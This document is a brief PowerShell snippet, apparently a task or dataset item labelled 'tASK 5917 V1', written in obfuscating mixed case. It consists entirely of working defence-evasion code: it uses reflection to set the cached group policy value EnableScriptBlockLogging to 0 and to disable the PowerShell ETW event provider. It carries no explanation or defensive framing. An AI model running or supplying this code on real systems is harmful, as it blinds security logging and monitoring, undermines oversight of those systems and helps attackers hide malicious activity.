# tASK 5917 V1
$SEtTINgs = [rEF].AssEMblY.GEtTYPe('System.Management.Automation.Utils').geTfIelD('cachedGroupPolicySettings','NonPublic,Static').GeTVALUe($NUlL)
$sEttiNgS['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
[rEfLecTiOn.asSEMbly]::lOADwiTHParTIaLnamE('System.Core').geTTyPE('System.Diagnostics.Eventing.EventProvider').GeTfIELD('m_enabled','NonPublic,Instance').SeTValue([ref].assEmbly.geTTyPe('System.Management.Automation.Tracing.PSEtwLogProvider').getfIElD('etwProvider','NonPublic,Static').getVAluE($null),0)
